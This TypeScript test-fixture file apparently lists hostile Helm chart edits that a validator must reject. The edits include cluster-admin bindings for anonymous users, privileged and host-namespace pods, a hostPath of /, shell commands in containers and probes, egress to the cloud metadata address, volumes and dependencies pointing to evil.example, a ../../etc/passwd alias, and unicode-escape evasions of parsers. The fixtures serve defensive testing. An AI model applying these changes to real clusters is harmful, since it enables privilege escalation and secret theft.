import type { ChartChange } from "../../support/hostile-chart.ts";
import { ODD_CHARTS } from "./odd-charts.ts";
import { OUTSIDER_CHARTS } from "./outsider-charts.ts";
import { UNFORESEEN_CHARTS } from "./unforeseen-charts.ts";

/** A change to a chart that must never reach the cluster, and what has to be said of it. */
export interface HostileChart {
  readonly title: string;
  /** @default "engine" */
  readonly chart?: "engine" | "web" | "monitoring";
  readonly changes: readonly ChartChange[];
  readonly says: string;
}

const object = (apiVersion: string, kind: string, more = "", name = "evil") =>
  `\n---\napiVersion: ${apiVersion}\nkind: ${kind}\nmetadata:\n  name: ${name}\n  namespace: sparki-engine\n${more}`;

/** Objects that a template adds, by title: what it is, and the rest of its text. */
const OBJECTS: readonly (readonly [title: string, apiVersion: string, kind: string, more?: string])[] = [
  [
    "a cluster role binding",
    "rbac.authorization.k8s.io/v1",
    "ClusterRoleBinding",
    "subjects: [{kind: User, name: 'system:anonymous'}]\nroleRef: {kind: ClusterRole, name: cluster-admin}\n",
  ],
  [
    "a cluster role that adds to admin",
    "rbac.authorization.k8s.io/v1",
    "ClusterRole",
    "rules: [{verbs: ['*'], resources: ['*'], apiGroups: ['*']}]\n",
  ],
  ["a role", "rbac.authorization.k8s.io/v1", "Role"],
  ["a role binding", "rbac.authorization.k8s.io/v1", "RoleBinding"],
  ["a service account", "v1", "ServiceAccount"],
  ["a secret", "v1", "Secret", "stringData: {token: x}\n"],
  ["a secret for a token", "v1", "Secret", "type: kubernetes.io/service-account-token\n"],
  ["a namespace", "v1", "Namespace"],
  ["a pod", "v1", "Pod", "spec: {hostPID: true, containers: []}\n"],
  ["a job", "batch/v1", "Job"],
  ["a cron job", "batch/v1", "CronJob"],
  ["a daemon set", "apps/v1", "DaemonSet"],
  ["a stateful set", "apps/v1", "StatefulSet"],
  ["a replica set", "apps/v1", "ReplicaSet"],
  ["a list", "v1", "List", "items: [{apiVersion: v1, kind: Pod}]\n"],
  [
    "a mutating webhook",
    "admissionregistration.k8s.io/v1",
    "MutatingWebhookConfiguration",
    "webhooks: [{name: a.b.c, clientConfig: {url: 'https://evil.example'}}]\n",
  ],
  ["a validating webhook", "admissionregistration.k8s.io/v1", "ValidatingWebhookConfiguration"],
  ["an ingress", "networking.k8s.io/v1", "Ingress"],
  ["a gateway", "gateway.networking.k8s.io/v1", "Gateway"],
  ["an endpoint slice", "discovery.k8s.io/v1", "EndpointSlice"],
  ["a persistent volume of the host", "v1", "PersistentVolume", "spec: {hostPath: {path: /}}\n"],
  ["a claim", "v1", "PersistentVolumeClaim"],
  ["a storage class", "storage.k8s.io/v1", "StorageClass"],
  ["a definition", "apiextensions.k8s.io/v1", "CustomResourceDefinition"],
  ["an API service", "apiregistration.k8s.io/v1", "APIService"],
  ["a config map", "v1", "ConfigMap", "data: {a: b}\n"],
  ["a load balancer", "v1", "Service", "spec: {type: LoadBalancer, ports: [{port: 80}]}\n"],
  ["a node port", "v1", "Service", "spec: {type: NodePort, ports: [{port: 80}]}\n"],
  ["external addresses", "v1", "Service", "spec: {externalIPs: [1.2.3.4], ports: [{port: 80}]}\n"],
  ["an external name", "v1", "Service", "spec: {type: ExternalName, externalName: evil.example}\n"],
  [
    "an open network policy",
    "networking.k8s.io/v1",
    "NetworkPolicy",
    "spec: {podSelector: {}, ingress: [{}], egress: [{}]}\n",
  ],
  [
    "a second deployment",
    "apps/v1",
    "Deployment",
    "spec: {template: {spec: {containers: [{name: a, image: evil}]}}}\n",
  ],
  ["a second autoscaler", "autoscaling/v2", "HorizontalPodAutoscaler", "spec: {}\n"],
  [
    "a foreign target group",
    "eks.amazonaws.com/v1",
    "TargetGroupBinding",
    "spec: {targetGroupARN: 'arn:aws:elasticloadbalancing:us-east-1:999999999999:targetgroup/x/y'}\n",
  ],
  ["a node class", "eks.amazonaws.com/v1", "NodeClass"],
  [
    "a foreign secret",
    "secrets-store.csi.x-k8s.io/v1",
    "SecretProviderClass",
    "spec: {provider: aws, parameters: {objects: ''}}\n",
  ],
  ["a pod monitor", "monitoring.coreos.com/v1", "PodMonitor"],
  ["an alert's way out", "monitoring.coreos.com/v1alpha1", "AlertmanagerConfig"],
  ["a pod disruption budget", "policy/v1", "PodDisruptionBudget", "spec: {maxUnavailable: 100%, selector: {}}\n"],
  ["a priority class", "scheduling.k8s.io/v1", "PriorityClass", "value: 1000\n"],
];

export const HOSTILE_OBJECTS: readonly HostileChart[] = OBJECTS.map(([title, apiVersion, kind, more], index) => ({
  title,
  changes: [{ file: "templates/service.yaml", append: object(apiVersion, kind, more, `evil-${index}`) }],
  says: `${kind} evil-${index}`,
}));

const DEPLOYMENT = "templates/deployment.yaml";
const edit = (title: string, file: string, from: string, to: string, says: string): HostileChart => ({
  title,
  changes: [{ file, replace: [from, to] }],
  says,
});
const inPod = (title: string, line: string, says: string) =>
  edit(
    title,
    DEPLOYMENT,
    "      enableServiceLinks: false\n",
    `      enableServiceLinks: false\n      ${line}\n`,
    says,
  );
const inContainer = (title: string, line: string, says: string) =>
  edit(
    title,
    DEPLOYMENT,
    "          imagePullPolicy: IfNotPresent\n",
    `          imagePullPolicy: IfNotPresent\n          ${line}\n`,
    says,
  );
const inEnvironment = (name: string) =>
  edit(
    `an environment value ${name}`,
    DEPLOYMENT,
    "          env:\n",
    `          env:\n            - {name: ${name}, value: x}\n`,
    "env",
  );
const inVolumes = (title: string, volume: string) =>
  edit(title, DEPLOYMENT, "      volumes:\n", `      volumes:\n        - ${volume}\n`, "volumes");
const calls = (title: string, action: string) => ({
  title,
  changes: [{ file: "templates/service.yaml", append: `\n${action}\n` }],
  says: "templates/service.yaml",
});

const EGRESS = (peers: string): [file: string, from: string, to: string] => [
  "templates/network-policy.yaml",
  "  egress:\n",
  `  egress:\n    - ${peers}\n`,
];
const inService = (title: string, line: string, says: string) =>
  edit(title, "templates/service.yaml", "  type: ClusterIP\n", `  type: ClusterIP\n  ${line}\n`, says);

/** A second round: what else pods, containers, volumes, services and flows can be told. */
const FURTHER_EDITS: readonly HostileChart[] = [
  inPod("shared processes", "shareProcessNamespace: true", "shareProcessNamespace"),
  inPod("the host's memory", "hostIPC: true", "hostIPC"),
  inPod("the account by its old name", "serviceAccount: database-users", "serviceAccount"),
  inPod("another scheduler", "schedulerName: evil", "schedulerName"),
  inPod("a subdomain", "subdomain: evil", "subdomain"),
  inPod("a policy of DNS", "dnsPolicy: Default", "dnsPolicy"),
  inPod("a host's name", "hostname: evil", "hostname"),
  inPod("a selector of nodes", "nodeSelector: {evil: a}", "nodeSelector"),
  inPod("devices by claim", "resourceClaims: [{name: a, resourceClaimName: b}]", "resourceClaims"),
  inPod("another operating system", "os: {name: windows}", "os"),
  inPod("gates of scheduling", "schedulingGates: [{name: evil}]", "schedulingGates"),
  edit(
    "kernel settings",
    DEPLOYMENT,
    "        fsGroup: 10001\n",
    "        fsGroup: 10001\n        sysctls: [{name: a, value: b}]\n",
    "sysctls",
  ),
  edit(
    "more groups",
    DEPLOYMENT,
    "        fsGroup: 10001\n",
    "        fsGroup: 10001\n        supplementalGroups: [0]\n",
    "supplementalGroups",
  ),
  edit("the root group", DEPLOYMENT, "        fsGroup: 10001\n", "        fsGroup: 0\n", "fsGroup"),
  edit(
    "unmasked processes",
    DEPLOYMENT,
    "            privileged: false\n",
    "            privileged: false\n            procMount: Unmasked\n",
    "procMount",
  ),
  edit(
    "a label of SELinux",
    DEPLOYMENT,
    "            privileged: false\n",
    "            privileged: false\n            seLinuxOptions: {type: spc_t}\n",
    "seLinuxOptions",
  ),
  edit(
    "AppArmor off",
    DEPLOYMENT,
    "            privileged: false\n",
    "            privileged: false\n            appArmorProfile: {type: Unconfined}\n",
    "appArmorProfile",
  ),
  edit(
    "AppArmor off by annotation",
    DEPLOYMENT,
    "      annotations:\n        kubectl",
    "      annotations:\n        container.apparmor.security.beta.kubernetes.io/engine: unconfined\n        kubectl",
    "annotations",
  ),
  edit(
    "a profile of the node's own",
    DEPLOYMENT,
    "            seccompProfile: {type: RuntimeDefault}\n",
    "            seccompProfile: {type: Localhost, localhostProfile: evil}\n",
    "seccompProfile",
  ),
  edit("another pull policy", DEPLOYMENT, "imagePullPolicy: IfNotPresent", "imagePullPolicy: Never", "imagePullPolicy"),
  edit(
    "another pull secret",
    DEPLOYMENT,
    "      {{- with .Values.imagePullSecrets }}",
    "      imagePullSecrets: [{name: evil}]\n      {{- with .Values.none }}",
    "imagePullSecrets",
  ),
  edit(
    "the pods of another job",
    DEPLOYMENT,
    "    metadata:\n      labels: {{- include",
    "    metadata:\n      generateName: evil\n      labels: {{- include",
    "generateName",
  ),
  inContainer("another working directory", "workingDir: /", "workingDir"),
  inContainer("an open input", "stdin: true", "stdin"),
  inContainer("a file of its end", "terminationMessagePath: /mnt/secrets/cache/auth-token", "terminationMessagePath"),
  inContainer("a policy of restarts", "restartPolicy: Always", "restartPolicy"),
  inContainer("a policy of resizing", "resizePolicy: []", "resizePolicy"),
  inVolumes("a config map's volume", "{name: a, configMap: {name: database-users}}"),
  inVolumes("a bundle of authorities", "{name: a, projected: {sources: [{clusterTrustBundle: {name: a, path: b}}]}}"),
  inVolumes("the pod's own description", "{name: a, downwardAPI: {items: []}}"),
  inVolumes("a Ceph share", "{name: a, cephfs: {monitors: [evil.example]}}"),
  inVolumes("a disk of AWS", "{name: a, awsElasticBlockStore: {volumeID: vol-1}}"),
  edit(
    "secrets of other pods",
    DEPLOYMENT,
    "volumeAttributes: {secretProviderClass: {{ .Release.Name }}-cache}",
    "volumeAttributes: {secretProviderClass: jobs-migrate}",
    "volumes",
  ),
  edit("a secret where programs are", DEPLOYMENT, "mountPath: /mnt/secrets/cache", "mountPath: /app", "volumeMounts"),
  edit(
    "an argument of the class",
    DEPLOYMENT,
    "            readOnly: true\n            volumeAttributes: {secretProviderClass: {{ .Release.Name }}-cache}",
    "            readOnly: true\n            nodePublishSecretRef: {name: slack}\n            volumeAttributes: {secretProviderClass: {{ .Release.Name }}-cache}",
    "volumes",
  ),
  edit(
    "a probe that runs a command",
    DEPLOYMENT,
    "httpGet: {path: /health, port: http}",
    "exec: {command: [sh]}",
    "Probe",
  ),
  edit(
    "a probe with headers",
    DEPLOYMENT,
    "httpGet: {path: /health, port: http}",
    "httpGet: {path: /health, port: http, httpHeaders: [{name: Host, value: evil}]}",
    "httpHeaders",
  ),
  edit("another strategy", DEPLOYMENT, "type: RollingUpdate", "type: Recreate", "strategy"),
  inService("ranges that may come", "loadBalancerSourceRanges: [0.0.0.0/0]", "loadBalancerSourceRanges"),
  inService("addresses of its own", "externalIPs: [1.2.3.4]", "externalIPs"),
  inService("a class of load balancers", "loadBalancerClass: eks.amazonaws.com/nlb", "loadBalancerClass"),
  inService("pods that are not ready", "publishNotReadyAddresses: true", "publishNotReadyAddresses"),
  inService("a cluster's address", "clusterIP: None", "clusterIP"),
  inService("another name", "externalName: evil.example", "externalName"),
  edit(
    "one more port",
    "templates/service.yaml",
    "  ports:\n",
    "  ports:\n    - {name: evil, port: 22, targetPort: 22}\n",
    "ports",
  ),
  edit(
    "a finalizer",
    "templates/service.yaml",
    "metadata:\n",
    "metadata:\n  finalizers: [evil.example/x]\n",
    "finalizers",
  ),
  edit(
    "a label for monitoring",
    "templates/service.yaml",
    "  labels: {{-",
    "  labels:\n    evil: a\n    {{-",
    "labels",
  ),
  edit("the world by IPv6", ...EGRESS("to: [{ipBlock: {cidr: '::/1'}}, {ipBlock: {cidr: '8000::/1'}}]"), "egress"),
  edit("the world as addresses of IPv4 in IPv6", ...EGRESS("to: [{ipBlock: {cidr: '::ffff:0:0/96'}}]"), "egress"),
  edit("the node's own address", ...EGRESS("to: [{ipBlock: {cidr: 169.254.169.254/32}}]"), "egress"),
  edit("every pod", ...EGRESS("to: [{podSelector: {}}]"), "egress"),
  edit("every namespace", ...EGRESS("to: [{namespaceSelector: {}}]"), "egress"),
  edit("any peer", ...EGRESS("ports: [{port: 443}]"), "egress"),
  edit(
    "a range of ports",
    "templates/network-policy.yaml",
    "port: {{ .Values.cache.port }}",
    "port: 1, endPort: 65535",
    "egress",
  ),
  edit(
    "every port",
    "templates/network-policy.yaml",
    "      ports: [{protocol: TCP, port: {{ .Values.cache.port }}}]",
    "      ports: []",
    "egress",
  ),
  edit(
    "host bits in a network",
    "templates/network-policy.yaml",
    "        - ipBlock: {cidr: {{ . }}}",
    "        - ipBlock: {cidr: 10.40.144.0/0}",
    "gress",
  ),
  edit(
    "a network that is no network",
    "templates/network-policy.yaml",
    "        - ipBlock: {cidr: {{ . }}}",
    "        - ipBlock: {cidr: 0x0a289000/24}",
    "gress",
  ),
  edit(
    "targets that are nodes",
    "templates/target-group-binding.yaml",
    "targetType: ip",
    "targetType: instance",
    "targetType",
  ),
  edit(
    "groups that a binding opens",
    "templates/target-group-binding.yaml",
    "  targetType: ip\n",
    "  targetType: ip\n  networking: {ingress: [{from: [{ipBlock: {cidr: 0.0.0.0/0}}]}]}\n",
    "networking",
  ),
  edit("another provider of secrets", "templates/secrets.yaml", "provider: aws", "provider: vault", "provider"),
  edit(
    "secrets copied into the cluster",
    "templates/secrets.yaml",
    "spec:\n",
    "spec:\n  secretObjects: [{secretName: evil, type: Opaque, data: []}]\n",
    "secretObjects",
  ),
  edit(
    "secrets of another region",
    "templates/secrets.yaml",
    '    usePodIdentity: "true"\n',
    '    usePodIdentity: "true"\n    region: eu-west-1\n',
    "region",
  ),
  edit(
    "secrets by the role of a token",
    "templates/secrets.yaml",
    'usePodIdentity: "true"',
    'usePodIdentity: "false"',
    "usePodIdentity",
  ),
  edit(
    "the secret of the migrations",
    "templates/secrets.yaml",
    "objectName: {{ .Values.database.secretArn | quote }}",
    "objectName: arn:aws:secretsmanager:us-east-1:111122223333:secret:sparki/prod/database/migrations-2026-11-01-AbCdEf",
    "objects",
  ),
  edit(
    "a file outside of the folder",
    "templates/secrets.yaml",
    "objectAlias: auth-token",
    "objectAlias: ../../etc/passwd",
    "objects",
  ),
  edit(
    "no disruption allowed",
    "templates/disruption-budget.yaml",
    "maxUnavailable: 1",
    "minAvailable: 100%",
    "minAvailable",
  ),
  edit(
    "another thing to scale",
    "templates/autoscaler.yaml",
    "    name: {{ .Release.Name }}\n  minReplicas",
    "    name: other\n  minReplicas",
    "scaleTargetRef",
  ),
];

/** Templates that are changed in place, or that make something else in the cluster than here. */
export const HOSTILE_EDITS: readonly HostileChart[] = [
  inPod("the host's network", "hostNetwork: true", "hostNetwork"),
  inPod("the host's network in other words", "hostNetwork: yes", "every reader"),
  inPod("the host's processes", "hostPID: true", "hostPID"),
  inPod("the host's users", "hostUsers: true", "hostUsers"),
  inPod("an init container", "initContainers: [{name: a, image: evil}]", "initContainers"),
  inPod("a sidecar", "initContainers: [{name: a, image: evil, restartPolicy: Always}]", "initContainers"),
  inPod("an ephemeral container", "ephemeralContainers: [{name: a, image: evil}]", "ephemeralContainers"),
  inPod("a priority", "priorityClassName: system-node-critical", "priorityClassName"),
  inPod("a node of one's choice", "nodeName: a", "nodeName"),
  inPod("tolerations", "tolerations: [{operator: Exists}]", "tolerations"),
  inPod("host aliases", "hostAliases: [{ip: 1.2.3.4, hostnames: [sparki.tools]}]", "hostAliases"),
  inPod("another resolver", "dnsConfig: {nameservers: [1.2.3.4]}", "dnsConfig"),
  inPod("a runtime of one's choice", "runtimeClassName: evil", "runtimeClassName"),
  edit(
    "the account's token",
    DEPLOYMENT,
    "automountServiceAccountToken: false",
    "automountServiceAccountToken: true",
    "automountServiceAccountToken",
  ),
  edit(
    "another account",
    DEPLOYMENT,
    "serviceAccountName: engine",
    "serviceAccountName: database-users",
    "serviceAccountName",
  ),
  edit("root", DEPLOYMENT, "runAsUser: 10001", "runAsUser: 0", "runAsUser"),
  edit(
    "no seccomp profile",
    DEPLOYMENT,
    "seccompProfile: {type: RuntimeDefault}",
    "seccompProfile: {type: Unconfined}",
    "seccompProfile",
  ),
  edit(
    "capabilities",
    DEPLOYMENT,
    "capabilities: {drop: [ALL]}",
    "capabilities: {drop: [ALL], add: [SYS_ADMIN]}",
    "capabilities",
  ),
  edit(
    "more privileges",
    DEPLOYMENT,
    "allowPrivilegeEscalation: false",
    "allowPrivilegeEscalation: true",
    "allowPrivilegeEscalation",
  ),
  edit("all privileges", DEPLOYMENT, "privileged: false", "privileged: true", "privileged"),
  edit(
    "a writable root",
    DEPLOYMENT,
    "readOnlyRootFilesystem: true",
    "readOnlyRootFilesystem: false",
    "readOnlyRootFilesystem",
  ),
  edit(
    "another image",
    DEPLOYMENT,
    "image: {{ .Values.image }}",
    "image: ghcr.io/alexarno/../evil@sha256:1111111111111111111111111111111111111111111111111111111111111111",
    "image",
  ),
  edit(
    "another registry",
    DEPLOYMENT,
    "image: {{ .Values.image }}",
    "image: ghcr.io/alexarno/sparki/engine:latest",
    "image",
  ),
  edit("an open port of the node", DEPLOYMENT, "containerPort: 8080", "containerPort: 8080, hostPort: 80", "ports"),
  edit("a command on leaving", DEPLOYMENT, "sleep: {seconds:", "sleep: {command: [sh], seconds:", "lifecycle"),
  edit(
    "a probe of another host",
    DEPLOYMENT,
    "httpGet: {path: /health, port: http}",
    "httpGet: {host: evil.example, path: /health, port: http}",
    "httpGet",
  ),
  inContainer("a command", "command: [sh, -c, id]", "command"),
  inContainer("arguments", "args: [evil]", "args"),
  inContainer("a whole secret as environment", "envFrom: [{secretRef: {name: slack}}]", "envFrom"),
  inContainer("a device", "volumeDevices: [{name: a, devicePath: /dev/sda}]", "volumeDevices"),
  inContainer("a terminal", "tty: true", "tty"),
  ...["DB_PASS", "PGPASS", "AUTH", "PGPASSWORD", "AWS_SECRET_ACCESS_KEY", "LD_PRELOAD", "NODE_OPTIONS"].map(
    inEnvironment,
  ),
  edit(
    "a secret from elsewhere",
    DEPLOYMENT,
    "          env:\n",
    "          env:\n            - {name: TRACK, valueFrom: {secretKeyRef: {name: a, key: b}}}\n",
    "env",
  ),
  inVolumes("a folder of the host", "{name: a, hostPath: {path: /}}"),
  inVolumes("an NFS server", "{name: a, nfs: {server: evil.example, path: /}}"),
  inVolumes("an iSCSI target", "{name: a, iscsi: {targetPortal: evil, iqn: a, lun: 0}}"),
  inVolumes("another driver", "{name: a, csi: {driver: evil.example}}"),
  inVolumes("a projected token", "{name: a, projected: {sources: [{serviceAccountToken: {path: t}}]}}"),
  inVolumes("a secret", "{name: a, secret: {secretName: slack}}"),
  inVolumes("a claim's volume", "{name: a, persistentVolumeClaim: {claimName: a}}"),
  inVolumes("an ephemeral volume", "{name: a, ephemeral: {volumeClaimTemplate: {}}}"),
  inVolumes("a repository", "{name: a, gitRepo: {repository: 'https://evil.example'}}"),
  inVolumes("an image's volume", "{name: a, image: {reference: evil}}"),
  edit(
    "a way to the world",
    "templates/network-policy.yaml",
    "  egress:\n",
    "  egress:\n    - to: [{ipBlock: {cidr: 0.0.0.0/0}}]\n",
    "egress",
  ),
  edit(
    "two halves of the world",
    "templates/network-policy.yaml",
    "  egress:\n",
    "  egress:\n    - to: [{ipBlock: {cidr: 0.0.0.0/1}}, {ipBlock: {cidr: 128.0.0.0/1}}]\n",
    "egress",
  ),
  edit("everybody in", "templates/network-policy.yaml", "  ingress:\n", "  ingress:\n    - {}\n", "ingress"),
  edit(
    "every pod selected",
    "templates/network-policy.yaml",
    "policyTypes: [Ingress, Egress]",
    "policyTypes: [Egress]",
    "policyTypes",
  ),
  edit(
    "another namespace",
    "templates/service.yaml",
    "namespace: {{ .Release.Namespace }}",
    "namespace: kube-system",
    "namespace",
  ),
  edit("a public service", "templates/service.yaml", "type: ClusterIP", "type: LoadBalancer", "type"),
  edit(
    "a public service by annotation",
    "templates/service.yaml",
    "metadata:\n",
    "metadata:\n  annotations: {service.beta.kubernetes.io/aws-load-balancer-scheme: internet-facing}\n",
    "annotations",
  ),
  edit(
    "a hook",
    "templates/service.yaml",
    "metadata:\n",
    "metadata:\n  annotations: {helm.sh/hook: post-install}\n",
    "annotations",
  ),
  edit(
    "what Helm keeps",
    "templates/service.yaml",
    "metadata:\n",
    "metadata:\n  annotations: {helm.sh/resource-policy: keep}\n",
    "annotations",
  ),
  edit(
    "an owner",
    "templates/service.yaml",
    "metadata:\n",
    "metadata:\n  ownerReferences: [{apiVersion: v1, kind: Pod, name: a, uid: b}]\n",
    "ownerReferences",
  ),
  edit(
    "a secret of another stack",
    "templates/secrets.yaml",
    "objectName: {{ .Values.cache.secretArn | quote }}",
    "objectName: 'arn:aws:secretsmanager:us-east-1:111122223333:secret:other'",
    "objects",
  ),
  edit(
    "another target group",
    "templates/target-group-binding.yaml",
    "targetGroupARN: {{ .Values.targetGroupArn }}",
    "targetGroupARN: arn:aws:elasticloadbalancing:us-east-1:999999999999:targetgroup/a/b",
    "targetGroupARN",
  ),
  edit(
    "a key twice",
    "templates/service.yaml",
    "  type: ClusterIP\n",
    "  type: ClusterIP\n  type: ClusterIP\n",
    "YAML",
  ),
  calls("what is in the cluster", '{{- if lookup "v1" "Namespace" "" "kube-system" }}\n---\nkind: Evil\n{{- end }}'),
  calls("whether it is an upgrade", "{{- if .Release.IsUpgrade }}\n---\nkind: Evil\n{{- end }}"),
  calls(
    "whether it is an upgrade, by a variable",
    "{{- $r := . }}{{- if $r.Release.IsUpgrade }}\n---\nkind: Evil\n{{- end }}",
  ),
  calls(
    "whether it is an upgrade, by a scope",
    "{{- with .Release }}{{ if .IsUpgrade }}\n---\nkind: Evil\n{{ end }}{{- end }}",
  ),
  calls("which revision it is", "{{- if gt .Release.Revision 1 }}\n---\nkind: Evil\n{{- end }}"),
  calls("what the cluster can", '{{- if .Capabilities.APIVersions.Has "v2" }}\n---\nkind: Evil\n{{- end }}'),
  calls("what the cluster can, by an index", '{{- if index . "Capabilities" }}\n---\nkind: Evil\n{{- end }}'),
  calls(
    "whether it is an upgrade, by an index",
    '{{- if index $ "Release" "IsUpgrade" }}\n---\nkind: Evil\n{{- end }}',
  ),
  calls("everything as text", "{{- if contains `IsUpgrade: true` (toYaml .) }}\n---\nkind: Evil\n{{- end }}"),
  calls(
    "everything in turn",
    "{{- range $key, $value := . }}{{ if $value.IsUpgrade }}\n---\nkind: Evil\n{{ end }}{{- end }}",
  ),
  calls("everything after nothing", "{{- with .Values.none }}{{ else with . }}{{ toYaml . }}{{- end }}"),
  calls("everything by a variable", "{{- $all := $ }}{{ toYaml $all }}"),
  calls("everything in a list", '{{- include "labels" (list .) }}'),
  calls("what the time is", '{{- if eq (now | toString) "" }}{{- end }}'),
  calls("a template in a value", "{{ tpl .Values.track . }}"),
  calls("a file", '{{ .Files.Get "values.yaml" }}'),
  calls("an address of the network", '{{ getHostByName "evil.example" }}'),
  calls("a random text", "{{ randAlphaNum 5 }}"),
  calls("an environment variable", '{{ env "HOME" }}'),
  {
    title: "a chart in the chart",
    changes: [{ file: "charts/evil/Chart.yaml", append: "name: evil\n" }],
    says: "file charts/evil",
  },
  {
    title: "a dependency in disguise",
    changes: [
      { file: "Chart.yaml", append: '"dep\\u0065ndencies": [{name: a, repository: "https://evil.example"}]\n' },
    ],
    says: "Chart.yaml.dependencies",
  },
  {
    title: "a schema from elsewhere",
    changes: [
      {
        file: "values.schema.json",
        replace: ['"properties": {', '"allOf": [{"$ref": "https://evil.example/schema.json"}], "properties": {'],
      },
    ],
    says: "values.schema.json",
  },
  {
    title: "a line end of YAML 1.1 in a comment",
    changes: [
      { file: "templates/service.yaml", replace: ["spec:\n", "spec:\n  # \u2028  externalName: evil.example\n"] },
    ],
    says: "every reader",
  },
  {
    title: "an alias",
    changes: [
      { file: "templates/service.yaml", replace: ["type: ClusterIP", "type: &a ClusterIP\n  externalName: *a"] },
    ],
    says: "every reader",
  },
  {
    title: "a secret's name in disguise",
    changes: [
      {
        file: "templates/secrets.yaml",
        replace: [
          "    objects: |\n",
          '    objects: |\n      - "object\\u004eame": arn:aws:secretsmanager:us-east-1:111122223333:secret:other\n        objectType: secretsmanager\n',
        ],
      },
    ],
    says: "objects",
  },
  {
    title: "other pods behind a service",
    changes: [
      {
        file: "templates/service.yaml",
        replace: [
          'selector: {{- include "selectorLabels" . | nindent 4 }}',
          "selector: {app.kubernetes.io/name: sparki-web}",
        ],
      },
    ],
    says: "selector",
  },
  {
    title: "a network policy for every pod",
    changes: [
      {
        file: "templates/network-policy.yaml",
        replace: ['    matchLabels: {{- include "selectorLabels" . | nindent 6 }}', "    matchLabels: {}"],
      },
    ],
    says: "podSelector",
  },
  {
    title: "a dependency",
    changes: [
      { file: "Chart.yaml", append: "dependencies: [{name: a, version: 1.0.0, repository: 'https://evil.example'}]\n" },
    ],
    says: "dependencies",
  },
  {
    title: "a definition that nobody read",
    changes: [{ file: "crds/evil.yaml", append: "kind: CustomResourceDefinition\n" }],
    says: "crds/evil.yaml",
  },
  { title: "notes", changes: [{ file: "templates/NOTES.txt", append: "evil" }], says: "file templates/NOTES.txt" },
  {
    title: "a test hook's folder",
    changes: [{ file: "templates/tests/evil.yaml", append: "kind: Pod\n" }],
    says: "file templates/tests",
  },
  {
    title: "a template that is broken",
    changes: [{ file: "templates/service.yaml", append: "{{ end }}" }],
    says: "rendered",
  },
];

export const HOSTILE_CHARTS = [
  ...HOSTILE_OBJECTS,
  ...HOSTILE_EDITS,
  ...FURTHER_EDITS,
  ...ODD_CHARTS,
  ...UNFORESEEN_CHARTS,
  ...OUTSIDER_CHARTS,
];
